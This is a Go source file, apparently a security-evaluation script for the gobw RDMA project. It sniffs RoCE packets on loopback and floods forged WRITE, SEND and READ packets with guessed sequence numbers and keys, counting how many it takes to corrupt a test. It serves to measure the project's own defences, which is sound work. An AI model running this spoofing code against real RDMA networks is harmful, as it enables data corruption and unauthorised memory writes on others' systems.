//go:build linux

// Command forge attacks running tests of gobw on the software device with packets that carry the peer's address, and
// prints how many it took until a test failed, beside the number that docs/serve.md computes:
//
//	go build -o /tmp/forge ./scripts/forge && unshare -Urn sh -c 'ip link set lo up; /tmp/forge path/to/gobw'
//
// The attacker sees the number of the attacked queue pair, and guesses the rest at random. Wrong data is told when a
// test ends, so short tests follow each other.
package main

import (
	"context"
	"encoding/binary"
	"errors"
	"flag"
	"fmt"
	"math/rand/v2"
	"net"
	"net/netip"
	"os"
	"os/exec"
	"regexp"
	"slices"
	"strings"
	"sync/atomic"
	"time"

	"golang.org/x/sys/unix"

	"github.com/gobw/gobw/verbs/roce/wire"
)

// attack is a kind of forged packet, beside a test that it should spoil.
type attack struct {
	name    string
	test    string
	seen    wire.Opcode // of the packets whose queue pair is attacked
	forged  wire.Opcode
	bits    int  // of what is guessed, less those that hit
	key     bool // a header with a random R_Key goes before the payload
	noEnd   bool // the test should outlive it: packets are limited
	payload int

	near  int // bits of a PSN that are guessed
	limit time.Duration
}

const (
	mtu = 4096
	// forgedByte is each byte of a forged payload.
	forgedByte = 0xee
	ignored    = 2_000_000 // packets of an attack that should show nothing

	interrupted, noTest = 130, 3 // exit codes
)

func attacks() []attack {
	rc, uc := wire.RC, wire.UC
	return []attack{
		{
			name: "wrong data into memory that is written (RC WRITE)", test: "write -s 64K -n 4000 --verify=all",
			seen: wire.MakeOpcode(rc, wire.WriteMiddle), forged: wire.MakeOpcode(rc, wire.WriteMiddle), bits: 15, payload: mtu,
		},
		{
			name: "an RC SEND that is executed", test: "send -s 64K -n 4000 --verify=all",
			seen: wire.MakeOpcode(rc, wire.SendMiddle), forged: wire.MakeOpcode(rc, wire.SendMiddle), bits: 15, payload: mtu,
		},
		{
			name: "wrong data into the answers to an RC READ", test: "read -s 64K -n 4000 --verify=all",
			seen: wire.RCReadResponseMiddle, forged: wire.RCReadResponseMiddle, bits: 15, payload: mtu,
		},
		{
			name: "a UC SEND that is received", test: "send -c UC -s 64 -n 200000 --verify=all",
			seen: wire.MakeOpcode(uc, wire.SendOnly), forged: wire.MakeOpcode(uc, wire.SendOnly), bits: 0, payload: 64,
		},
		{
			name: "a WRITE of its own, without the R_Key", test: "write -c UC -s 64 -n 200000 --verify=all", noEnd: true,
			seen: wire.MakeOpcode(uc, wire.WriteOnly), forged: wire.MakeOpcode(uc, wire.WriteOnly), bits: 32, key: true,
			payload: 64,
		},
	}
}

func main() {
	trials := flag.Int("trials", 5, "tests that each attack tries")
	rate := flag.Int("rate", 25_000, "forged packets per second; 0: as many as leave")
	only := flag.String("only", "", "attacks whose name holds this")
	near := flag.Int("near", 24, "bits of a PSN that are guessed; the others are those of a packet just seen")
	limit := flag.Duration("limit", 4*time.Minute, "longest time of a test")
	flag.Parse()
	if flag.NArg() != 1 || *near < 2 || *near > 24 {
		fmt.Fprintln(os.Stderr, "usage: forge [-trials N] [-rate N] [-only WORD] [-near 2..24] [-limit TIME] path/to/gobw")
		os.Exit(2)
	}
	fmt.Printf("%-50s %6s  %12s  %s\n",
		"attack, the queue pair's number known", "failed", "computed", "packets until the test failed")
	for _, a := range attacks() {
		if !strings.Contains(a.name, *only) {
			continue
		}
		a.near, a.limit = *near, *limit
		if err := a.report(flag.Arg(0), *trials, *rate); err != nil {
			fmt.Fprintln(os.Stderr, "forge:", a.name+":", err)
			os.Exit(1)
		}
	}
}

func (a *attack) report(gobw string, trials, rate int) error {
	var counts []int
	endings := map[string]int{}
	failed := 0
	for range trials {
		count, ending, err := a.try(gobw, rate)
		if err != nil {
			return err
		}
		counts = append(counts, count)
		endings[ending]++
		if ending != "" {
			failed++
		}
	}
	slices.Sort(counts)
	fmt.Printf("%-50s %2d/%-3d  %12d  %v\n", a.name, failed, trials, 1<<a.bits, counts)
	for ending, n := range endings {
		fmt.Printf("    %d: %s\n", n, orDash(ending))
	}
	return nil
}

func orDash(s string) string {
	if s == "" {
		return "the test went on"
	}
	return s
}

// try attacks one test, and returns the number of packets until it failed and what it then said.
func (a *attack) try(gobw string, rate int) (int, string, error) {
	ctx, cancel := context.WithTimeout(context.Background(), a.limit)
	defer cancel()
	sniffer, err := unix.Socket(unix.AF_INET, unix.SOCK_RAW|unix.SOCK_CLOEXEC, unix.IPPROTO_UDP)
	if err != nil {
		return 0, "", fmt.Errorf("raw socket: %w (start it as root, or in a user namespace)", err)
	}
	defer func() { _ = unix.Close(sniffer) }()
	server := exec.CommandContext(ctx, gobw, "serve", "-d", "roce0", "--listen", "127.0.0.1", "--port", "19977")
	if err := server.Start(); err != nil {
		return 0, "", err
	}
	defer func() {
		_ = server.Process.Kill()
		_ = server.Wait()
	}()
	if err := awaitServer(ctx); err != nil {
		return 0, "", err
	}
	for sent := 0; ; {
		n, ending, err := a.spoil(ctx, gobw, sniffer, rate)
		sent += n
		if err != nil || ending != "" || a.noEnd && sent >= ignored || ctx.Err() != nil {
			return sent, ending, err
		}
	}
}

// awaitServer waits until the server listens.
func awaitServer(ctx context.Context) error {
	ctx, cancel := context.WithTimeout(ctx, 10*time.Second)
	defer cancel()
	for {
		conn, err := new(net.Dialer).DialContext(ctx, "tcp", "127.0.0.1:19977")
		if err == nil {
			return conn.Close()
		}
		if ctx.Err() != nil {
			return fmt.Errorf("the server does not listen: %w", err)
		}
		time.Sleep(20 * time.Millisecond)
	}
}

// spoil sends forged packets to one test, and returns how many, and how the test failed.
func (a *attack) spoil(ctx context.Context, gobw string, sniffer, rate int) (sent int, ending string, err error) {
	var said strings.Builder
	args := append(strings.Fields(a.test), "127.0.0.1", "--port", "19977", "-d", "roce0", "--warmup", "0")
	client := exec.CommandContext(ctx, gobw, args...)
	client.Stdout, client.Stderr = &said, &said
	client.Cancel = func() error { return client.Process.Signal(os.Interrupt) }
	client.WaitDelay = 10 * time.Second
	if err := client.Start(); err != nil {
		return 0, "", err
	}
	var over atomic.Bool
	done := make(chan struct{})
	go func() {
		_ = client.Wait()
		over.Store(true)
		close(done)
	}()
	seen, err := a.watch(sniffer, &over)
	if err == nil {
		var psn atomic.Uint32
		psn.Store(seen.psn)
		go a.follow(sniffer, &psn, &over)
		sent, err = a.flood(seen, rate, &psn, &over)
	}
	if isOver := over.Load(); !isOver {
		_ = client.Process.Signal(os.Interrupt)
	} else if err != nil { // the test was over before a packet was seen
		err = nil
	}
	<-done
	switch code := client.ProcessState.ExitCode(); code {
	case 0, interrupted:
	case noTest:
		return 0, "", errors.New(firstError(said.String()))
	default:
		ending = fmt.Sprintf("exit %d: %s", code, firstError(said.String()))
	}
	return sent, ending, err
}

func firstError(s string) string {
	lines := strings.Split(strings.TrimSpace(s), "\n")
	for _, line := range lines {
		if said, ok := strings.CutPrefix(line, "gobw: "); ok {
			return ownNumbers.ReplaceAllString(said, "N")
		}
	}
	return lines[len(lines)-1]
}

// ownNumbers differ from test to test.
var ownNumbers = regexp.MustCompile(`0x[0-9a-f]+|\b\d{2,}\b|\brequest \d`)

// victim is a genuine packet's way, queue pair and PSN.
type victim struct {
	from, to netip.AddrPort
	qpn, psn uint32
}

// watch waits for a genuine packet of the test.
func (a *attack) watch(sniffer int, over *atomic.Bool) (victim, error) {
	wait := unix.Timeval{Usec: 200_000}
	if err := unix.SetsockoptTimeval(sniffer, unix.SOL_SOCKET, unix.SO_RCVTIMEO, &wait); err != nil {
		return victim{}, err
	}
	packet := make([]byte, 1<<16)
	for begin := time.Now(); time.Since(begin) < 20*time.Second && !over.Load(); {
		if v, ok := a.sniff(sniffer, packet); ok {
			return v, nil
		}
	}
	return victim{}, errors.New("no packet of the test was seen within 20 s")
}

// follow keeps the PSN of the latest genuine packet.
func (a *attack) follow(sniffer int, psn *atomic.Uint32, over *atomic.Bool) {
	packet := make([]byte, 1<<16)
	for !over.Load() {
		if v, ok := a.sniff(sniffer, packet); ok {
			psn.Store(v.psn)
		}
	}
}

// sniff reads a packet, and tells whether it is one that the attack looks for.
func (a *attack) sniff(sniffer int, packet []byte) (victim, bool) {
	n, _, err := unix.Recvfrom(sniffer, packet, 0)
	const ip = 20
	if err != nil || n < ip+wire.UDPBytes+wire.MinPacketBytes {
		return victim{}, false
	}
	udp, bth := packet[ip:], packet[ip+wire.UDPBytes:]
	isForged := n > ip+wire.UDPBytes+wire.BTHBytes && packet[ip+wire.UDPBytes+wire.BTHBytes] == forgedByte
	if binary.BigEndian.Uint16(udp[2:]) != wire.Port || wire.Opcode(bth[0]) != a.seen || isForged {
		return victim{}, false
	}
	address := func(at int) netip.Addr { return netip.AddrFrom4([4]byte(packet[at:])) }
	return victim{
		from: netip.AddrPortFrom(address(12), wire.Port), to: netip.AddrPortFrom(address(16), wire.Port),
		qpn: wire.Uint24(bth[5:]), psn: wire.Uint24(bth[9:]),
	}, true
}

// flood sends forged packets until the test is over, or as many as should show nothing.
func (a *attack) flood(v victim, rate int, psn *atomic.Uint32, over *atomic.Bool) (int, error) {
	socket, err := unix.Socket(unix.AF_INET, unix.SOCK_RAW|unix.SOCK_CLOEXEC, unix.IPPROTO_RAW)
	if err != nil {
		return 0, err
	}
	defer func() { _ = unix.Close(socket) }()
	flow, err := wire.NewFlow(v.from, v.to)
	if err != nil {
		return 0, err
	}
	headers := wire.BTHBytes
	if a.key {
		headers += wire.RETHBytes
	}
	packet := make([]byte, headers+a.payload+wire.ICRCBytes)
	for i := range packet {
		packet[i] = forgedByte
	}
	to := &unix.SockaddrInet4{Addr: v.to.Addr().As4()}
	begin := time.Now()
	for sent := 0; ; sent++ {
		if over.Load() || a.noEnd && sent == ignored {
			return sent, nil
		}
		if rate > 0 {
			due := begin.Add(time.Duration(sent) * time.Second / time.Duration(rate))
			if ahead := time.Until(due); ahead > time.Millisecond {
				time.Sleep(ahead)
			}
		}
		span := uint32(1) << a.near
		guess := (psn.Load() - span/4 + rand.Uint32N(span)) & wire.Mask24
		wire.PutBTH(packet, a.forged, wire.FlagMigrated, v.qpn, guess)
		if a.key {
			wire.RETH{Addr: rand.Uint64(), RKey: rand.Uint32(), Length: uint32(a.payload)}.Put(packet[wire.BTHBytes:])
		}
		flow.Seal(packet, 0)
		if err := unix.Sendto(socket, datagram(v.from, v.to, packet), 0, to); err != nil && err != unix.ENOBUFS {
			return sent, err
		}
	}
}

// datagram is a UDP datagram without a checksum. The kernel adds that of the IPv4 header.
func datagram(from, to netip.AddrPort, payload []byte) []byte {
	const dontFragment = 0x4000
	d := wire.Datagram{Source: from, Dest: to, Fragment: dontFragment, Hops: 64, Payload: payload}
	return d.AppendIP(nil)
}
